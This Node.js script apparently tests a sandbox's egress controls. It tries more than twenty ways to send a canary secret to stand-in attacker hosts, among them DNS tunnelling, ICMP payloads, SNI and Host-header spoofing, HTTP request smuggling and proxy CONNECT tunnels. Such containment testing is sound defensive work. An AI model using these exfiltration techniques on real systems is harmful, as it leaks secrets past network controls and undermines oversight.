// Sends a secret to an address of the attacker's without asking anybody for a name that is watched.
import { spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { lookup, Resolver } from 'node:dns/promises';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const secret = process.env.CANARY;
const said = (error) => console.log(error.code ?? error.message);
const psk = Buffer.from('00112233445566778899aabbccddeeff', 'hex');
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const registry = async () => (await lookup('registry.test')).address;

function tcp(host, port, text, ...later) {
  const socket = connect(port, host, async () => {
    socket.write(text);
    for (const more of later) {
      await wait(30);
      socket.write(more);
    }
    await wait(100);
    socket.end();
  });
  socket.on('error', said);
  socket.resume();
}
function udp(type, host, port) {
  const socket = createSocket(type);
  socket.on('error', said);
  socket.send(secret, port, host, (error) => {
    if (error) said(error);
    socket.close();
  });
}
function tls(host, servername, text, port = 443) {
  const socket = connectTls({
    host,
    port,
    ...(servername && { servername }),
    ciphers: 'PSK-AES128-GCM-SHA256',
    maxVersion: 'TLSv1.2',
    checkServerIdentity: () => undefined,
    pskCallback: () => ({ identity: 'replay', psk }),
  });
  socket.on('error', said);
  socket.on('secureConnect', () => socket.end(text));
  socket.resume();
}
// An echo request (RFC 792, RFC 4443). Of a socket for them the kernel writes the checksum; whoever listens to all sees it anyway.
function echo(family, type, protocol, request, address) {
  const payload = Buffer.concat([Buffer.from([request, 0, 0, 0, 0, 1, 0, 1]), Buffer.from(secret)]);
  if (family === 2) payload.writeUInt16BE(checksum(payload), 2);
  const to = family === 2 ? `0200 0000 ${address} 0000000000000000` : `0a00 0000 00000000 ${address} 00000000`;
  const words = [`x:${payload.toString('hex')} ${payload.length} 0`, `x:${to.replaceAll(' ', '')} ${family === 2 ? 16 : 28}`];
  const { stdout } = spawnSync('/opt/replay/call', [`socket ${family} ${type} ${protocol}`, `sendto =0 ${words.join(' ')}`]);
  console.log(String(stdout));
}
function checksum(bytes) {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += (bytes[at] << 8) + (bytes[at + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}

const V4 = 'c6336407';
const V6 = '20010db8000000000000000000000007';
const ways = {
  ipv4: () => tcp('198.51.100.7', 4444, secret),
  ipv6: () => tcp('2001:db8::7', 8443, secret),
  'ssh-port': () => tcp('198.51.100.7', 22, `SSH-2.0-${secret}\r\n`),
  'mail-port': () => tcp('198.51.100.7', 25, `EHLO ${secret}\r\n`),
  udp: () => udp('udp4', '198.51.100.7', 4444),
  'udp-ipv6': () => udp('udp6', '2001:db8::7', 123),
  quic: () => udp('udp4', '198.51.100.7', 443),
  'multicast-dns': () => udp('udp4', '198.51.100.7', 5353),
  'dns-over-https': () =>
    tls('198.51.100.8', 'dns.attacker.test', `GET /dns-query?name=${secret}.exfil.test HTTP/1.1\r\nHost: dns.attacker.test\r\n\r\n`),
  'dns-over-tls': () => tcp('198.51.100.8', 853, secret),
  'foreign-name-server': async () => {
    const resolver = new Resolver({ timeout: 1000, tries: 1 });
    resolver.setServers(['198.51.100.53']);
    await resolver.resolve4(`${secret}.exfil.test`).catch(said);
  },
  icmp: () => echo(2, 3, 1, 8, V4),
  'icmp-ipv6': () => echo(10, 3, 58, 128, V6),
  'ping-socket': () => echo(2, 2, 1, 8, V4),
  'another-server-name': async () => tls(await registry(), 'collect.attacker.test', `POST / HTTP/1.1\r\n\r\n${secret}`),
  'no-server-name': async () => tls(await registry(), undefined, `POST / HTTP/1.1\r\n\r\n${secret}`),
  'another-host-header': async () => tcp(await registry(), 80, `GET /${secret} HTTP/1.1\r\nHost: collect.attacker.test\r\n\r\n`),
  'second-request': async () =>
    tcp(
      await registry(),
      80,
      'GET / HTTP/1.1\r\nHost: registry.test\r\n\r\n',
      `GET /${secret} HTTP/1.1\r\nHost: collect.attacker.test\r\n\r\n`,
    ),
  'smuggled-request': async () =>
    tcp(
      await registry(),
      80,
      `POST / HTTP/1.1\r\nHost: registry.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /${secret} HTTP/1.1\r\nHost: collect.attacker.test\r\n\r\n`,
    ),
  'tunnel-through-a-proxy': async () =>
    tcp(await registry(), 3128, 'CONNECT collect.attacker.test:443 HTTP/1.1\r\nHost: registry.test\r\n\r\n', secret),
  'unnamed-protocol': async () => tcp(await registry(), 80, `\u0001${secret}`),
};
await ways[process.argv[2]]();
